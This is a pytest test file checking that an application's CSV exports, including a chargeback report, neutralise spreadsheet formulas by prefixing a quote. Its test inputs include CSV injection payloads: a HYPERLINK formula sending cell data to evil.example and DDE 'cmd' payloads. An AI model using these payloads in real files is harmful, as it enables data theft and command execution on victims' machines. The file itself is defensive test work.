"""CSV cells a spreadsheet would evaluate are neutralised (OWASP's CSV injection guidance): every CSV
file Klique writes goes through apps.core.spreadsheet."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal

import pytest
from rest_framework.test import APIClient

from apps.core.spreadsheet import cell, csv_bytes
from tests.world import World

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1", "\r=1", "\n=1", "\uff1d1+1", "\uff0bcmd", "\uff0d1", "\uff20SUM(1)",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert cell(text) == f"'{text}"
    [row] = list(csv.reader(io.StringIO(csv_bytes(["name"], [{"name": text}]).decode())))[1:]
    assert row == [f"'{text}"]


@pytest.mark.parametrize("value", ["apollo", "CC 4711", "a=b", "x-1", "", 3, Decimal("-1.250000")])
def test_ordinary_values_and_numbers_stay_as_they_are(value: object) -> None:
    expected = format(value, "f") if isinstance(value, Decimal) else value
    assert cell(value) == expected


@pytest.mark.django_db
def test_the_chargeback_file_neutralises_names_people_chose(
    api: Callable[..., APIClient], world: World
) -> None:
    admin = api("alice")
    center = "=cmd|' /C calc'!A0"
    patched = admin.patch(f"/api/v1/projects/{world.project_a}/", {"cost_center": center}, format="json")
    assert patched.status_code == 200
    events = [
        {
            "event_id": "csv-call",
            "kind": "tokens",
            "started_at": "2026-11-05T09:00:00+00:00",
            "user": "bob",
            "project": "apollo",
            "model": "@SUM(1+1)",
            "tokens_in": 10,
            "tokens_out": 20,
        }
    ]
    assert admin.post("/api/v1/usage/events/", {"events": events}, format="json").json()["accepted"] == 1
    body = admin.get("/api/v1/usage/chargeback/?period=2026-11&file=csv").content.decode()
    [row] = [row for row in csv.DictReader(io.StringIO(body)) if row["model"].endswith("SUM(1+1)")]
    assert row["cost_center"] == f"'{center}"
    assert row["model"] == "'@SUM(1+1)"
    assert row["tokens_in"] == "10"
